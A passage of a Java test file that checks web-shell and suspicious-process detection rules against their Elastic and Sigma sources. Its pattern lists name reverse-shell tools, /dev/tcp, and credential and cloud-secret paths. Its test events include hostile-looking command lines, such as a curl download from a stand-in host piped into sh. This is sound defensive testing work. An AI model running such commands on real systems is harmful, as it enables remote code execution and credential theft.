package io.spawnwatch.rules;

import io.spawnwatch.rules.model.RuleSource;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_EXECUTION;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_PROCESS;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_CHILD;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_NETWORK;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_PROCESS;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import io.spawnwatch.rules.sigma.SigmaRule;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * The shipped rules against their sources, row by row: events derived from
 * each source's logic (every list item, every exclusion, each deviation), with
 * the verdict the source gives (stated from its published query) and the one
 * we must give. Where the two differ the row names the deviation, and the
 * rule's own description must list it.
 *
 * <p>Sources (the lists below are transcribed from them): elastic/detection-rules
 * commit 14cf530f (rules/linux/persistence_webserver_*.toml) and c6bf8d93
 * (rules/_deprecated/persistence_web_server_sus_{child_spawned,destination_port}.toml);
 * SigmaHQ/sigma commit 08b3fd5f (proc_creation_lnx_webshell_detection.yml,
 * net_connection_lnx_susp_malware_callback_port.yml).
 */
class FidelityTest {
    /** One event, the source's verdict, ours, and (when they differ) the deviation as the rule's description says it. */
    record Row(String rule, String what, TestEvent event, boolean source, boolean ours, String deviation) {}

    // --- the sources' lists ---
    static final List<String> SUCCESSOR_PARENT_NAMES = List.of(
            "nginx", "apache2", "httpd", "caddy", "mongrel_rails", "uwsgi", "daphne", "httpd.worker", "flask",
            "php-cgi", "php-fcgi", "php-cgi.cagefs", "lswsctrl", "varnishd", "uvicorn", "waitress-serve", "starman",
            "frankenphp", "zabbix_server", "asterisk", "sw-engine-fpm");
    static final List<String> SUCCESSOR_PARENT_NAME_LIKE = List.of(
            "php-fpm*", "lsphp*", "gunicorn*", "*.cgi", "*.fcgi");
    static final List<String> SUCCESSOR_JAVA_ARGS = List.of(
            "org.apache.catalina.startup.Bootstrap", "-Dcatalina.base=*", "org.eclipse.jetty.start.Main",
            "-Djetty.home=*", "org.jboss.modules.Main", "-Djboss.home.dir=*", "weblogic.Server", "-Dweblogic.Name=*",
            "*weblogic-launcher.jar*", "com.ibm.ws.runtime.WsServer", "com.ibm.ws.kernel.boot.cmdline.Bootstrap",
            "com.sun.enterprise.glassfish.bootstrap.ASMain", "com.caucho.server.resin.Resin",
            "org.springframework.boot.loader.*", "*quarkus-run.jar*", "io.quarkus.runner.GeneratedMain",
            "io.micronaut.runtime.Micronaut", "io.dropwizard.cli.ServerCommand", "play.core.server.ProdServerStart",
            "io.helidon.microprofile.server.Main", "io.helidon.webserver*", "io.vertx.core.Launcher",
            "org.keycloak*", "org.apereo.cas*", "org.elasticsearch.bootstrap.Elasticsearch",
            "com.atlassian.jira.startup.Launcher", "*BitbucketServerLauncher*", "com.google.gerrit.pgm.Daemon",
            "*-Dsolr.solr.home=*", "*jenkins.war*");
    static final List<String> SHELLS = List.of(
            "bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "mksh", "busybox");
    static final List<String> COMMAND_PATTERNS = List.of(
            "* /tmp/* ", "* /var/tmp/* ", "* /dev/shm/*", "* /run/*", "* /var/run/*", "*|sh", "*| sh *", "*| sh ",
            "*|bash*", "*| bash*", "*|zsh*", "*| zsh*", "*|dash*", "*| dash*", "*|python*", "*| python*", "*|php*",
            "*| php*", "*|perl*", "*| perl*", "*|ruby*", "*| ruby*", "*|node*", "*| node*", "*|lua*", "*| lua*",
            "*|busybox*", "*| busybox*", "*|*base64 -d*", "*|*base64 --decode*", "*|*openssl base64 -d*", "*xxd *",
            "*| openssl*enc * -d *", "*b64decode -r*", "*python -c*", "*python3 -c*", "*php -r*", "*perl -e*",
            "*ruby -e*", "*lua -e*", "*node -e *", "*netcat *", "* nc *", "*ncat *", "*/dev/tcp*", "*/dev/udp/*",
            "*socat *", "*openssl*s_client *", "*stty*raw*-echo*", "*mkfifo /tmp/*", "*>*/etc/cron*", "*crontab*",
            "*/etc/ssh*", "*/home/*/.ssh/*", "*/root/.ssh*", "*~/.ssh/*", "*/etc/shadow*", "*/etc/passwd*",
            "*/etc/master.passwd*", "*/etc/hosts*", "*/etc/resolv.conf*", "*/etc/hostname*", "*/etc/issue*",
            "*/etc/os-release*", "*lsb_release*", "*/proc/*/environ*", "*sudo -l*", "*/proc/*/cgroup*",
            "*dockerenv*", "*/proc/*/mountinfo*", "*printenv*", "*cat*.env *", "*getcap*", "*capsh*", "*find / *",
            "*netstat *", "*aws_access_key_id*", "*aws_secret_access_key*", "*aws_session_token*", "*accesskeyid*",
            "*secretaccesskey*", "*.aws/credentials*", "*/.aws/config*", "*AZURE_CLIENT_ID*", "*AZURE_TENANT_ID*",
            "*AZURE_CLIENT_SECRET*", "*AZURE_FEDERATED_TOKEN_FILE*", "*IDENTITY_ENDPOINT*", "*IDENTITY_HEADER*",
            "*MSI_ENDPOINT*", "*MSI_SECRET*", "*/.azure/*", "*/run/secrets/azure/*", "*/.config/gcloud/*",
            "*application_default_credentials.json*", "*type: service_account*", "*client_email*",
            "*private_key_id*", "*/run/secrets/google/*", "*GOOGLE_APPLICATION_CREDENTIALS*",
            "*/.docker/config.json*", "*/.npmrc*", "*/secrets/kubernetes.io/serviceaccount/*", "*timeout *sh -c *",
            "*env *sh *-c*", "*exec -a*", "*chattr *", "*busybox *", "*#!*", "*chmod +x *", "*chmod 777*",
            "*chpasswd*", "*<?php*?>*", "*kworker*", "*gzip -*d *", "*bzip2 -*d *", "*xz -*d *", "*tar -*x*",
            "*../../../*etc/*", "*/.../*", "*../../../*home/*/*", "*../../../*root/*", "*pastebin.com*",
            "*transfer.sh*", "*bashupload.com*", "* id *", "* whoami *", "* hostname *");
    static final List<String> CHILD_NAMES = List.of(
            ".*", "*.elf", "*.sh", "*.py", "*.rb", "*.pl", "*.lua*", "*.php*", ".js", "*.bin", "*.jar", "*.mjs",
            "nc", "netcat", "ncat", "telnet", "socat", "openssl", "nc.openbsd", "ngrok", "nc.traditional", "az",
            "gcloud", "aws", "kubectl", "helm", "docker", "ctr", "crictl", "whoami", "ifconfig", "ip", "ss", "top",
            "htop", "du", "lsblk", "lsof", "tcpdump", "strace", "ltrace", "curl", "wget", "dig", "nslookup", "host",
            "nmap", "arp", "traceroute", "cat", "touch", "mv", "rm", "mkdir", "ln", "chmod", "sudo", "xxd", "base64",
            "basez", "base64plain", "base64url", "base64mime", "base64pem", "basenc", "base32", "base16", "chpasswd",
            "passwd");
    static final List<String> CHILD_PATHS = List.of(
            "/tmp/*", "/var/tmp/*", "/dev/shm/*", "/run/*", "/var/run/*", "/boot/*", "/sys/*", "/lost+found/*",
            "/proc/*", "/var/mail/*", "/var/www/*", "/home/*/*", "/root/*");
    static final List<String> NEW_TERMS_EXCLUDED_NAMES = List.of(
            "arp", "aws", "az", "base16", "base32", "base64", "base64mime", "base64pem", "base64plain", "base64url",
            "basenc", "basez", "bash", "busybox", "cat", "chmod", "chpasswd", "cp", "crictl", "csh", "ctr", "curl",
            "dash", "df", "dig", "docker", "du", "fish", "gcloud", "helm", "host", "htop", "ifconfig", "ip", "ksh",
            "kubectl", "ln", "lsblk", "lsof", "ltrace", "mkdir", "mksh", "mv", "nc", "nc.openbsd", "nc.traditional",
            "ncat", "netcat", "ngrok", "nmap", "nslookup", "openssl", "passwd", "rm", "sh", "socat", "ss", "strace",
            "sudo", "tcpdump", "tcsh", "telnet", "top", "touch", "traceroute", "wget", "whoami", "xxd", "zsh",
            "*.bin", "*.elf", "*.jar", "*.lua*", "*.mjs", "*.js", "*.php*", "*.pl", "*.py", "*.rb", "*.sh", ".*");
    static final List<String> NEW_TERMS_EXCLUDED_PATHS = List.of(
            "./*", "/boot/*", "/dev/shm/*", "/home/*/*", "/lost+found/*", "/proc/*", "/root/*", "/run/*", "/sys/*",
            "/tmp/*", "/var/mail/*", "/var/run/*", "/var/tmp/*", "/var/www/*", "/usr/bin/ffprobe", "/usr/bin/ffmpeg");
    static final List<String> UNUSUAL_PROCESS_PARENTS = List.of(
            "apache", "nginx", "apache2", "httpd", "lighttpd", "caddy", "mongrel_rails", "gunicorn", "uwsgi",
            "openresty", "cherokee", "h2o", "resin", "puma", "unicorn", "traefik", "tornado", "hypercorn", "daphne",
            "twistd", "yaws", "webfsd", "httpd.worker", "flask", "rails", "mongrel", "php-cgi", "php-fcgi",
            "php-cgi.cagefs", "catalina.sh", "hiawatha", "lswsctrl");
    static final List<String> WEB_USERS = List.of(
            "apache", "www-data", "httpd", "nginx", "lighttpd", "tomcat", "tomcat8", "tomcat9");
    static final List<String> UNUSUAL_PROCESS_CHILDREN = List.of(
            "bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "socat", "openssl", "busybox", "nc", "ncat",
            "netcat", "nc.openbsd", "nc.traditional", "nohup", "setsid", "mkfifo", "mknod", "node", "socket");
    static final List<String> UNUSUAL_PROCESS_PATHS = List.of(
            "/tmp/*", "/var/tmp/*", "/dev/shm/*", "/var/log/*", "/sys/*", "/media/*", "/proc/*", "/var/backups/*",
            "/var/mail/*", "/var/spool/*", "/var/www/*");
    static final List<String> PORT_RULE_NAMES = List.of(
            "apache", "nginx", "apache2", "httpd", "lighttpd", "caddy", "mongrel_rails", "gunicorn", "uwsgi",
            "openresty", "cherokee", "h2o", "resin", "puma", "unicorn", "traefik", "tornado", "hypercorn", "daphne",
            "twistd", "yaws", "webfsd", "httpd.worker", "flask", "rails", "mongrel", "php-fpm*", "php-cgi",
            "php-fcgi", "php-cgi.cagefs", "catalina.sh", "hiawatha", "lswsctrl");
    static final List<String> PORT_RULE_CIDRS = List.of(
            "127.0.0.0/8", "::1", "FE80::/10", "FF00::/8", "10.0.0.0/8", "169.254.0.0/16", "172.16.0.0/12",
            "192.0.0.0/24", "192.0.0.0/29", "192.0.0.8/32", "192.0.0.9/32", "192.0.0.10/32", "192.0.0.170/32",
            "192.0.0.171/32", "192.0.2.0/24", "192.31.196.0/24", "192.52.193.0/24", "192.168.0.0/16",
            "192.88.99.0/24", "224.0.0.0/4", "100.64.0.0/10", "192.175.48.0/24", "198.18.0.0/15", "198.51.100.0/24",
            "203.0.113.0/24", "224.0.0.0/4", "240.0.0.0/4");
    static final List<String> WEBSHELL_PARENT_IMAGES = List.of(
            "/httpd", "/lighttpd", "/nginx", "/apache2", "/node", "/caddy");
    static final List<String> WEBSHELL_TOOLS = List.of(
            "/whoami", "/ifconfig", "/ip", "/bin/uname", "/bin/cat", "/bin/crontab", "/hostname", "/iptables",
            "/netstat", "/pwd", "/route");
    static final List<String> SIGMA_LOCAL_RANGES = List.of(
            "127.0.0.0/8", "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "169.254.0.0/16", "::1/128", "fe80::/10",
            "fc00::/7");
    static final List<Integer> PORT_RULE_ALLOWED_PORTS = List.of(80, 443, 8080, 8443, 8000, 8888, 3128, 3306, 5432, 8220, 8082);
    static final List<Integer> SIGMA_CALLBACK_PORTS = List.of(888, 999, 2200, 2222, 4000, 4444, 6789, 8531, 50501, 51820);

    private static final Map<String, SigmaRule> RULES = new HashMap<>();
    private static final Map<String, SigmaRule> UNFILTERED = new HashMap<>();
    private static final String EXCLUSION = "exclusion: ";

    /**
     * A row for one of the source's exclusions: both verdicts false, and the
     * test also checks that the rule without its filter_* selections selects
     * the event, so the row fails if the event misses the rule for another reason.
     */
    private static Row exclusion(String rule, String what, TestEvent event) {
        return new Row(rule, EXCLUSION + what, event, false, false, null);
    }

    /** The shipped rule with "and not 1 of filter_*" taken out of its condition. */
    private static SigmaRule unfiltered(String title) {
        return UNFILTERED.computeIfAbsent(title, t -> {
            try {
                for (RuleSource src : RuleSource.builtin()) {
                    if (src.text().contains("title: " + t + "\n")) {
                        String text = src.text().replace(" and not 1 of filter_*", "");
                        if (text.equals(src.text())) {
                            throw new AssertionError(t + ": no 'and not 1 of filter_*' in its condition");
                        }
                        return Rules.compile(text);
                    }
                }
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
            throw new AssertionError("no shipped rule " + t);
        });
    }

    private static SigmaRule rule(String title) {
        return RULES.computeIfAbsent(title, BuiltinRuleFixture::rule);
    }

    /** A value that a source pattern with * and ? wildcards matches: each * becomes "a", a leading one nothing. */
    static String instance(String pattern) {
        return instance(pattern, "a");
    }

    /** As {@link #instance(String)}, with each inner * made {@code fill}. */
    static String instance(String pattern, String fill) {
        String p = pattern.startsWith("*") ? pattern.substring(1) : pattern;
        return p.replace("*", fill);
    }

    /** A direct child of a php-fpm worker (Debian 12), as www-data in the script's directory. */
    private static TestEvent child(String image, String comm, String... argv) {
        return TestEvent.phpFpmChild(image, comm, String.join(" ", argv)).argv(argv);
    }

    /**
     * /tmp/payload, a #!/usr/bin/python3 script with no telling name, run by the
     * web server: the kernel runs the interpreter (Image), the name is the
     * script's (comm), and only ScriptPath says where it lives.
     */
    private static TestEvent scriptInTmp() {
        return child("/usr/bin/python3.11", "payload", "/usr/bin/python3", "/tmp/payload")
                .set(Field.SCRIPT_PATH, "/tmp/payload");
    }

    /** sh -c BODY from a web server parent. */
    private static TestEvent shell(String parentName, String body) {
        return child("/usr/bin/dash", "sh", "sh", "-c", body).set(Field.PARENT_NAME, parentName);
    }

    private static TestEvent connect(String processName, long uid, String user, String destination, int port) {
        return TestEvent.connect().set(Field.PROCESS_NAME, processName).set(Field.IMAGE, "/usr/sbin/" + processName)
                .set(Field.USER_ID, uid).set(Field.USER, user).set(Field.DESTINATION_IP, destination)
                .set(Field.DESTINATION_PORT, port).set(Field.LINEAGE_DEPTH, 0);
    }

    /** An address inside a CIDR from the source's list (its network address, plus one where that is all zeros). */
    static String inside(String cidr) {
        String net = cidr.contains("/") ? cidr.substring(0, cidr.indexOf('/')) : cidr;
        if (net.contains(":")) {
            return net.endsWith("::") ? net + "1" : net;
        }
        String[] q = net.split("\\.");
        return q[0] + "." + q[1] + "." + q[2] + "." + (q[3].equals("0") ? "1" : q[3]);
    }

    static List<Row> rows() {
        List<Row> rows = new ArrayList<>();
        suspiciousCommandExecution(rows);
        suspiciousChildExecution(rows);
        unusualChildAndCommandExecution(rows);
        unusualProcessSpawned(rows);
        webshellIndicators(rows);
        networkConnection(rows);
        return rows;
    }

    private static void suspiciousCommandExecution(List<Row> rows) {
        String r = SUSPICIOUS_COMMAND;
        for (String parent : SUCCESSOR_PARENT_NAMES) {
            rows.add(new Row(r, "web parent " + parent, shell(parent, "id"), true, true, null));
        }
        for (String like : SUCCESSOR_PARENT_NAME_LIKE) {
            rows.add(new Row(r, "web parent like " + like, shell(instance(like, "x"), "id"), true, true,
                    null));
        }
        rows.add(new Row(r, "ruby puma parent", shell("ruby3.1", "id").parentArgv("puma", "6.4.0", "(tcp://0:3000)"),
                true, true, null));
        rows.add(new Row(r, "ruby without a server", shell("ruby3.1", "id").parentArgv("ruby", "/usr/bin/rake"),
                false, false, null));
        rows.add(new Row(r, "python django parent", shell("python3", "id").parentArgv("python3", "manage.py",
                "runserver", "--settings=django_site"), true, true, null));
        rows.add(new Row(r, "python without a server", shell("python3", "id").parentArgv("python3", "/usr/bin/tool"),
                false, false, null));
        rows.add(new Row(r, "perl plackup parent", shell("perl", "id").parentArgv("/usr/bin/plackup", "app.psgi"),
                true, true, null));
        for (String arg : SUCCESSOR_JAVA_ARGS) {
            rows.add(new Row(r, "java parent arg " + arg, shell("java", "id").parentArgv("java", "-Xmx1g",
                    instance(arg), "start"), true, true, null));
        }
        rows.add(new Row(r, "java server class inside another argument",
                shell("java", "id").parentArgv("java", "-Dx=org.apache.catalina.startup.Bootstrap"), false, false,
                null));
        rows.add(new Row(r, "java in /u01", shell("java", "id").parentArgv("java", "Main")
                .set(Field.CURRENT_DIRECTORY, "/u01/app"), true, true, null));
        for (String sh : SHELLS) {
            rows.add(new Row(r, "shell " + sh, child("/usr/bin/" + sh, sh, sh, "-c", "id"), true, true, null));
        }
        rows.add(new Row(r, "not a shell", child("/usr/bin/perl", "perl", "perl", "-c", "id"), false, false, null));
        for (String flag : List.of("-c", "-cl", "-lc")) {
            rows.add(new Row(r, "flag " + flag, child("/usr/bin/bash", "bash", "bash", flag, "id"), true, true, null));
        }
        rows.add(new Row(r, "glibc 2.38 system(): sh -c -- id", child("/usr/bin/dash", "sh", "sh", "-c", "--", "id"),
                true, true, null));
        rows.add(new Row(r, "sh -c -- with a download piped into sh",
                child("/usr/bin/dash", "sh", "sh", "-c", "--", "curl -s http://e/x |sh"), true, true, null));
        rows.add(new Row(r, "a download piped into ' sh' at the very end",
                shell("php-fpm8.2", "curl -s http://e/x | sh"), false, true, "a command line ending in \"| sh\""));
        rows.add(new Row(r, "flag -ec is not one of the source's", child("/usr/bin/dash", "sh", "sh", "-ec", "id"),
                false, false, null));
        for (String p : COMMAND_PATTERNS) {
            rows.add(new Row(r, "command pattern " + p, shell("php-fpm8.2", instance(p)), true, true, null));
        }
        for (String d : List.of("id", "whoami", "hostname")) {
            rows.add(new Row(r, "discovery argument " + d, shell("php-fpm8.2", d), true, true, null));
        }
        rows.add(new Row(r, "harmless conversion", shell("php-fpm8.2", "convert a.png b.jpg"), false, false, null));
        rows.add(new Row(r, "a /tmp path last, without the source's trailing space",
                shell("php-fpm8.2", "convert up.png /tmp/thumb.png"), false, false, null));
        rows.add(new Row(r, "curl without a listed pattern", shell("php-fpm8.2", "curl -s https://api.example.com/v1"),
                false, false, null));
        // Exclusions, each with the parent it is scoped to, and the same command under another parent.
        rows.add(exclusion(r, "apache2 php version probe",
                shell("apache2", "/usr/bin/php -r 'echo phpversion();'")));
        rows.add(exclusion(r, "php-fpm php version probe with --",
                child("/usr/bin/dash", "sh", "sh", "-c", "--", "/usr/bin/php -r 'echo phpversion();'")));
        rows.add(new Row(r, "the php-fpm probe is not excluded under nginx",
                shell("nginx", "/usr/bin/php -r 'echo phpversion();'"), true, true, null));
        rows.add(exclusion(r, "php-fpm resize helper", shell("php-fpm8.2", "python -c x /tmp/tmp_resize_1")));
        rows.add(exclusion(r, "php-fpm ps | grep", shell("php-fpm8.2", "ps aux|grep php|sh").argv("sh", "-c",
                "ps aux|grep php|sh")));
        rows.add(exclusion(r, "php-fpm ffmpeg argument", child("/usr/bin/dash", "sh", "sh", "-c",
                "ffmpeg -i /tmp/in.mp4 /tmp/out.mp4 ")));
        rows.add(exclusion(r, "nginx resty chmod", shell("nginx", "chmod 777 /etc/resty-auto-ssl")));
        rows.add(exclusion(r, "nginx lua gcc probe", shell("nginx", "gcc -print-multiarch 2>/dev/null > /tmp/lua_x ")));
        rows.add(exclusion(r, "php-cgi nohup lockindex", shell("php-cgi",
                "nohup php /home/u/etc/shadow/public_html/lockindex.php index.php >/dev/null 2>&1 &")));
        rows.add(exclusion(r, "gunicorn certificate check", shell("gunicorn",
                "echo | openssl s_client -connect localhost:61617 2>/dev/null | openssl x509 -noout -enddate")
                .argv("/bin/sh", "-c",
                        "echo | openssl s_client -connect localhost:61617 2>/dev/null | openssl x509 -noout -enddate")));
        rows.add(exclusion(r, "zabbix sendmail", shell("zabbix_server", "cat /etc/passwd | /usr/sbin/sendmail x")));
        rows.add(exclusion(r, "node version probe", shell("php-fpm8.2", "node -v || nodejs -v")));
        rows.add(exclusion(r, "puppet master directory", shell("php-fpm8.2", "id")
                .set(Field.CURRENT_DIRECTORY, "/var/lib/puppet/rack/puppetmasterd")));
        rows.add(exclusion(r, "apache2 collabora AppImage argument", child("/usr/bin/bash", "bash", "bash", "-c",
                "( /home/u/apps/richdocumentscode/collabora/Collabora_Online.AppImage | sh )")
                .argv("bash", "-c", "bash -c \"( /home/u/apps/richdocumentscode/collabora/Collabora_Online.AppImage"
                        + " | sh )").set(Field.PARENT_NAME, "apache2")));
        rows.add(exclusion(r, "apache2 stat argument", child("/usr/bin/dash", "sh", "sh", "-c", "stat /etc/passwd")
                .argv("sh", "-c", "stat /etc/passwd").set(Field.PARENT_NAME, "apache2")));
        rows.add(exclusion(r, "apache2 crontab update", shell("apache2", "/usr/bin/crontab /tmp/phpupdatecrontab.txt")));
        rows.add(exclusion(r, "php-fpm ssh mux", shell("php-fpm8.2", "timeout 3600 ssh -o ControlMaster=auto -o"
                + " ControlPath=/var/www/html/storage/app/ssh/mux/x host cat /etc/hostname")));
        rows.add(exclusion(r, "php-cgi ps -ef|grep", shell("php-cgi", "ps -ef|grep php | sh")));
        rows.add(exclusion(r, "gunicorn binary's certificate check", shell("gunicorn",
                "echo 'Q' | openssl s_client -connect localhost:61617 2>/dev/null | openssl x509 -noout -enddate")
                .argv("/bin/sh", "-c", "echo 'Q' | openssl s_client -connect localhost:61617 2>/dev/null"
                        + " | openssl x509 -noout -enddate").set(Field.PARENT_IMAGE, "/usr/local/bin/gunicorn")));
        rows.add(exclusion(r, "bitnami httpd php probe", shell("httpd", "/opt/bitnami/php/bin/php -r 'echo phpversion();'")
                .set(Field.PARENT_IMAGE, "/opt/bitnami/apache/bin/httpd")));
        rows.add(exclusion(r, "podman php-fpm probe", shell("php-fpm", "/usr/local/bin/php -r 'echo phpversion();'")
                .set(Field.PARENT_IMAGE, "/var/lib/containers/storage/overlay/abc/merged/usr/local/sbin/php-fpm")));
        rows.add(exclusion(r, "docker uwsgi logrotate touch", shell("uwsgi", "{ touch /run/uwsgi-logrotate  }")
                .argv("/bin/sh", "-c", "{ touch /run/uwsgi-logrotate  }")
                .set(Field.PARENT_IMAGE, "/var/lib/docker/overlay2/abc/merged/usr/sbin/uwsgi")));
        rows.add(exclusion(r, "python hive server", shell("python3", "cat /etc/hosts").parentArgv("python3",
                "/opt/hive/hive_server.py", "--flask")));
        rows.add(exclusion(r, "plesk sw-engine-fpm", shell("sw-engine-fpm", "/opt/psa/admin/bin/x /etc/passwd")));
        rows.add(exclusion(r, "httpd netmon log", shell("httpd", "cat /dev/shm/netmon-log/x")));
        rows.add(exclusion(r, "asterisk chmod of recordings", child("/usr/bin/dash", "sh", "sh", "-c",
                "/bin/chmod 777 /var/spool/gravacoes/a.WAV").argv("sh", "-c", "/bin/chmod 777 /var/gravacoes/a.WAV")
                .set(Field.PARENT_NAME, "asterisk")));
        rows.add(exclusion(r, "varnishd gcc", child("/usr/bin/dash", "sh", "sh", "-c", "exec gcc -o /tmp/vcl x.c")
                .argv("sh", "-c", "exec gcc -o /tmp/vcl.so /run/vcl.c").set(Field.PARENT_NAME, "varnishd")));
        rows.add(exclusion(r, "morpheus java", shell("java", "sudo -l -U morpheus-local").set(Field.PARENT_IMAGE,
                "/opt/morpheus/embedded/java/jre/bin/java").parentArgv("java", "-jar", "jenkins.war")));
        rows.add(exclusion(r, "ruby hosts.allow probe", shell("ruby", "cat /etc/hosts.allow 2>/dev/null")
                .parentArgv("puma", "5.6", "(tcp://0.0.0.0:3000)")));
        rows.add(new Row(r, "the ruby probe's exclusion needs the name ruby", shell("ruby3.1",
                "cat /etc/hosts.allow 2>/dev/null").parentArgv("puma", "5.6"), true, true, null));
        rows.add(exclusion(r, "java chmod of a csv", child("/usr/bin/dash", "sh", "sh", "-c",
                "chmod 777 /tmp/export.csv").argv("sh", "-c", "chmod 777 /tmp/export.csv").set(Field.PARENT_NAME,
                "java").parentArgv("java", "org.apache.catalina.startup.Bootstrap")));
        rows.add(exclusion(r, "oracle sysman directory", shell("php-fpm8.2", "id")
                .set(Field.CURRENT_DIRECTORY, "/u01/app/oracle/sysman/emd")));
        rows.add(new Row(r, "exclusions are case-sensitive as EQL's ==",
                shell("php-fpm8.2", "NODE -v || nodejs -v").argv("sh", "-c", "NODE -v || nodejs -v | sh"), true, true,
                null));
    }

    private static void suspiciousChildExecution(List<Row> rows) {
        String r = SUSPICIOUS_CHILD_EXECUTION;
        for (String parent : SUCCESSOR_PARENT_NAMES) {
            rows.add(new Row(r, "web parent " + parent, child("/usr/bin/curl", "curl", "curl", "http://e/")
                    .set(Field.PARENT_NAME, parent), true, true, null));
        }
        for (String name : CHILD_NAMES) {
            String comm = instance(name, "x");
            rows.add(new Row(r, "child name " + name, child("/usr/bin/" + comm, comm, comm), true, true, null));
        }
        for (String path : CHILD_PATHS) {
            String exe = instance(path, "x");
            rows.add(new Row(r, "child path " + path, child(exe, "payload", exe), true, true, null));
        }
        rows.add(new Row(r, "#! script named x.php (process name, not executable)",
                child("/usr/bin/php8.2", "x.php", "/usr/bin/php", "/var/lib/app/x.php"), true, true, null));
        rows.add(new Row(r, "#! script named job.lua", child("/usr/bin/lua5.4", "job.lua", "lua", "/srv/job.lua"),
                true, true, null));
        rows.add(new Row(r, "a tool under an ordinary name", child("/usr/bin/convert", "convert", "convert", "a", "b"),
                false, false, null));
        rows.add(new Row(r, "#! script in /tmp", scriptInTmp(), false, true, "where a #! script lives"));
        rows.add(new Row(r, "curl run by system() from PHP",
                TestEvent.phpFpmGrandchild("/usr/bin/curl", "curl", "curl -s http://e/x -o /tmp/x"), false, true,
                "the parent is a shell in the lineage of a web server"));
        rows.add(new Row(r, "a www-data shell with no web server above it", TestEvent.phpFpmGrandchild(
                "/usr/bin/cat", "cat", "cat /etc/hostname").set(Field.LINEAGE_ROOT_NAME, "sh")
                .set(Field.LINEAGE_ROOT_IMAGE, "/usr/bin/dash"), false, false, null));
        rows.add(exclusion(r, "oracle clusterware", child("/tmp/CVU_19/exectask", "exectask", "exectask")
                .set(Field.PARENT_NAME, "java").parentArgv("java", "org.apache.catalina.startup.Bootstrap")));
        rows.add(exclusion(r, "oracle directory", child("/usr/bin/cat", "cat", "cat", "x")
                .set(Field.CURRENT_DIRECTORY, "/u01/app/sysman/emd")));
        rows.add(exclusion(r, "nginx logrotate cat", child("/usr/bin/cat", "cat", "cat", "/run/nginx.pid")
                .set(Field.PARENT_NAME, "nginx").parentArgv("/bin/sh", "/etc/init.d/nginx", "rotate")));
        rows.add(exclusion(r, "asterisk AGI script", child("/var/lib/asterisk/bin/faxnotify.php", "faxnotify.php",
                "faxnotify.php").set(Field.PARENT_NAME, "asterisk")));
        rows.add(exclusion(r, "morpheus chmod", child("/usr/bin/chmod", "chmod", "chmod", "-R", "g+w",
                "/var/opt/morpheus/morpheus-local/repo/git/x").set(Field.PARENT_IMAGE,
                "/opt/morpheus/embedded/java/jre/bin/java")));
        rows.add(exclusion(r, "java chmod of /etc/pki", child("/usr/bin/chmod", "chmod", "chmod", "00660", "/etc/pki/x")
                .set(Field.PARENT_NAME, "java").parentArgv("java", "org.keycloak.quarkus.runtime.KeycloakMain")));
        rows.add(exclusion(r, "java 21 ln", child("/usr/bin/ln", "ln", "ln", "-s", "a", "b").set(Field.PARENT_NAME,
                "java").set(Field.PARENT_IMAGE, "/usr/lib/jvm/java-21-openjdk/bin/java")
                .parentArgv("java", "org.keycloak.Main")));
    }

    private static void unusualChildAndCommandExecution(List<Row> rows) {
        rows.add(new Row(UNUSUAL_CHILD, "a new helper", child("/usr/bin/convert", "convert", "convert", "a", "b"),
                true, true, null));
        for (String name : NEW_TERMS_EXCLUDED_NAMES) {
            String comm = instance(name, "x");
            rows.add(exclusion(UNUSUAL_CHILD, "excluded name " + name, child("/usr/bin/" + comm, comm, comm)));
        }
        for (String path : NEW_TERMS_EXCLUDED_PATHS) {
            if (path.startsWith("./")) {
                continue; // cannot occur: executables are resolved, absolute paths
            }
            String exe = instance(path, "x");
            rows.add(exclusion(UNUSUAL_CHILD, "excluded path " + path, child(exe, "helper", exe)));
        }
        rows.add(new Row(UNUSUAL_CHILD, "#! script in /tmp", scriptInTmp(), true, false, "where a #! script lives"));
        rows.add(new Row(UNUSUAL_CHILD, "java parent outside /u0*", child("/usr/bin/convert", "convert", "convert")
                .set(Field.PARENT_NAME, "java").set(Field.PARENT_IMAGE, "/usr/bin/java")
                .parentArgv("java", "org.apache.catalina.startup.Bootstrap"), false, false, null));
        rows.add(new Row(UNUSUAL_CHILD, "java parent in /u01", child("/usr/bin/convert", "convert", "convert")
                .set(Field.PARENT_NAME, "java").set(Field.PARENT_IMAGE, "/u01/jdk/bin/java")
                .parentArgv("java", "org.apache.catalina.startup.Bootstrap"), true, true, null));
        rows.add(exclusion(UNUSUAL_CHILD, "wkhtmltopdf", child("/usr/local/bin/wkhtmltopdf", "wkhtmltopdf",
                "/usr/local/bin/wkhtmltopdf", "in.html", "out.pdf")));
        rows.add(exclusion(UNUSUAL_CHILD, "oracle edoc directory", child("/usr/bin/convert", "convert", "convert")
                .set(Field.CURRENT_DIRECTORY, "/var/www/html-edoc-1")));

        String r = UNUSUAL_COMMAND;
        rows.add(new Row(r, "a new shell command", shell("php-fpm8.2", "convert a.png b.jpg"), true, true, null));
        rows.add(new Row(r, "a new shell command through sh -c --", child("/usr/bin/dash", "sh", "sh", "-c", "--",
                "convert a.png b.jpg"), true, true, null));
        rows.add(new Row(r, "a shell without -c", child("/usr/bin/dash", "sh", "sh", "/srv/x.sh"), false, false,
                null));
        for (String sh : SHELLS) {
            rows.add(new Row(r, "shell " + sh, child("/usr/bin/" + sh, sh, sh, "-lc", "make"), true, true, null));
        }
        rows.add(exclusion(r, "nginx busybox gcc lua", child("/bin/busybox", "busybox", "busybox", "-c",
                "gcc -o /tmp/lua_x").set(Field.PARENT_NAME, "nginx").argv("busybox", "-c", "gcc -o /tmp/lua_x")));
